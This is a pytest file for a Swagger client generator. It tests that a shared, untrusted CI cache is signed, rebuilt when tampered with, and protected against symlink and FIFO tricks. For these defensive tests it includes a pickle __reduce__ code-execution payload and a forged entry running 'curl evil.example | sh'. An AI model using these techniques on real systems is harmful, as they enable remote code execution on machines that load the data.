"""The cache folder is untrusted (CI caches are shared between jobs and forks): nothing read from it
runs code or reaches the output unless this machine's key signed it; a foreign entry is rebuilt."""

from __future__ import annotations

import os
import pickle
from pathlib import Path

import pytest

from generator.state import cache
from generator.formatting import formatter as formatting

DOCUMENT = """\
swagger: "2.0"
info: {title: Pets, version: "1.0.0"}
host: pets.example
schemes: [https]
paths:
  /pets:
    get:
      operationId: listPets
      tags: [pets]
      description: DESCRIPTION
      parameters:
        - {name: limit, in: query, type: integer}
      responses:
        "200": {description: ok, schema: {type: array, items: {$ref: "#/definitions/Pet"}}}
definitions:
  Pet:
    type: object
    required: [name]
    properties:
      name: {type: string}
      tag: {type: string}
"""


class _Payload:
    """Unpickling this makes a folder: the canary that shows an entry ran."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.canary),)


@pytest.fixture
def cache_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "cache"
    monkeypatch.setenv("GENERATOR_CACHE", str(folder))
    monkeypatch.setenv("GENERATOR_CACHE_KEY", "this machine's key")
    return folder


def _entries(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*") if p.is_file()]


def _generate(cli, spec: Path, out: Path, *extra: str | Path) -> dict[str, bytes]:  # type: ignore[no-untyped-def]
    result = cli(
        "generate", spec, "-o", out, "--package", "pets_client", "--client-class", "Pets", *extra
    )
    assert result.code == 0, result.err
    return {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def _two_generations(
    cli,
    folder: Path,
    monkeypatch: pytest.MonkeyPatch,  # type: ignore[no-untyped-def]
    between: object = None,
) -> dict[str, bytes]:
    """Generate DOCUMENT in folder, call between(), then generate an edited DOCUMENT into the same output."""
    folder.mkdir()
    monkeypatch.chdir(folder)  # relative paths: the generated headers name the same spec everywhere
    Path("pets.yaml").write_text(DOCUMENT, encoding="utf-8")
    _generate(cli, Path("pets.yaml"), Path("out"))
    if callable(between):
        between()
    Path("pets.yaml").write_text(DOCUMENT.replace("DESCRIPTION", "another text"), encoding="utf-8")
    return _generate(cli, Path("pets.yaml"), Path("out"))


def test_a_poisoned_cache_runs_nothing_and_is_rebuilt(
    cli,
    cache_dir: Path,
    tmp_path: Path,  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    canary = tmp_path / "canary"
    payload = pickle.dumps(_Payload(canary))

    def poison() -> None:  # an attacker's job rewrote every entry of the shared cache
        entries = _entries(cache_dir)
        assert entries, "the first run keeps entries"
        for entry in entries:
            entry.write_bytes(payload)

    poisoned = _two_generations(cli, tmp_path / "poisoned", monkeypatch, poison)
    assert not canary.exists(), "an entry from the cache folder ran code"
    assert any(
        entry.read_bytes() != payload for entry in _entries(cache_dir)
    ), "foreign entries are rewritten"
    monkeypatch.setenv("GENERATOR_CACHE", "off")
    assert poisoned == _two_generations(cli, tmp_path / "plain", monkeypatch)


def test_forged_formatting_never_reaches_the_output(
    cli,
    cache_dir: Path,
    tmp_path: Path,  # type: ignore[no-untyped-def]
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """black's output is cached by the hash of its input: a forged entry would put any code into
    the package that other projects install."""
    templates = tmp_path / "templates" / "package"
    templates.mkdir(parents=True)
    # A custom template's output always goes through black, so its formatting is cached.
    (templates / "_version.py.jinja").write_text(
        '{{ c.header }}\n__version__ = "{{ version }}"\n', encoding="utf-8"
    )
    spec = tmp_path / "pets.yaml"
    spec.write_text(DOCUMENT, encoding="utf-8")
    first = _generate(cli, spec, tmp_path / "one", "--templates", tmp_path / "templates")
    formatted = _entries(cache_dir / "formatted")
    assert formatted, "black's output is kept"
    for entry in formatted:
        entry.write_text(
            "import os\nos.system('curl evil.example | sh')  # FORGED\n", encoding="utf-8"
        )
    monkeypatch.setattr(
        formatting, "_formatted", {}
    )  # as a new process starts: nothing formatted yet
    again = _generate(cli, spec, tmp_path / "two", "--templates", tmp_path / "templates")
    assert not any(b"FORGED" in text for text in again.values())
    assert {k: v for k, v in again.items() if k != "manifest.json"} == {
        k: v for k, v in first.items() if k != "manifest.json"
    }


def test_an_entry_is_read_only_under_the_key_that_signed_it(
    cache_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache.write("formatted", "some source", b"formatted")
    assert cache.read("formatted", "some source") == b"formatted"
    assert cache.read("formatted", "other source") is None  # a signature names its key
    assert cache.read("checks", "some source") is None  # and its kind
    monkeypatch.setenv("GENERATOR_CACHE_KEY", "another machine's key")
    assert cache.read("formatted", "some source") is None


def test_a_changed_entry_is_foreign(cache_dir: Path) -> None:
    cache.write("checks", "record", b'{"up to date": false}')
    (entry,) = _entries(cache_dir)
    entry.write_bytes(entry.read_bytes().replace(b"false", b"true "))
    assert cache.read("checks", "record") is None


def test_links_fifos_and_floods_in_the_cache_are_never_read_or_written_through(
    cache_dir: Path, tmp_path: Path
) -> None:
    cache.write("black", "key", b"x")
    (entry,) = _entries(cache_dir)
    entry.unlink()
    os.mkfifo(entry)
    assert cache.read("black", "key") is None  # returns at once: a FIFO is not a regular file
    entry.unlink()
    entry.symlink_to("/dev/zero")
    assert cache.read("black", "key") is None
    outside = tmp_path / "outside"
    outside.mkdir()
    kind = cache_dir / "plans"
    kind.symlink_to(outside, target_is_directory=True)
    cache.write("plans", "key", b"data")
    assert list(outside.rglob("*")) == []  # nothing written through a planted folder link
    assert cache.read("plans", "key") is None


def test_no_key_inside_the_cache_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever can write the cache folder must not be able to read the key that signs it."""
    monkeypatch.delenv("GENERATOR_CACHE_KEY", raising=False)
    monkeypatch.setenv("GENERATOR_CACHE", str(tmp_path / "shared"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "shared" / "config"))
    cache.write("black", "key", b"x")
    assert cache.read("black", "key") is None and not cache.enabled()
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    cache.write("black", "key", b"x")
    assert cache.read("black", "key") == b"x"
    key_file = tmp_path / "config" / "swagger2-python-client-generator" / "cache-key"
    assert key_file.stat().st_mode & 0o777 == 0o600


def test_check_never_blocks_on_an_input_swapped_for_a_fifo(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The record lists the files a generation read; one replaced by a FIFO since must not hang check."""
    import subprocess
    import sys

    monkeypatch.setenv("GENERATOR_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("GENERATOR_CACHE_KEY", "k")
    (tmp_path / "api.yaml").write_text(
        DOCUMENT.replace('"#/definitions/Pet"', "pet.yaml"), encoding="utf-8"
    )
    (tmp_path / "pet.yaml").write_text(
        "type: object\nproperties: {name: {type: string}}\n", encoding="utf-8"
    )
    config = tmp_path / "pyproject.toml"
    config.write_text(
        '[[tool.swagger2-client.targets]]\nspec = "api.yaml"\noutput = "out"\npackage = "pets_client"\n',
        encoding="utf-8",
    )
    command = [sys.executable, "-m", "generator", "--config", str(config)]
    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True, timeout=120)
    (tmp_path / "pet.yaml").unlink()
    os.mkfifo(tmp_path / "pet.yaml")
    run = subprocess.run(
        [*command, "check"], cwd=tmp_path, capture_output=True, text=True, timeout=60
    )
    assert run.returncode != 0, (
        run.stdout + run.stderr
    )  # a FIFO is no document part: the check says so
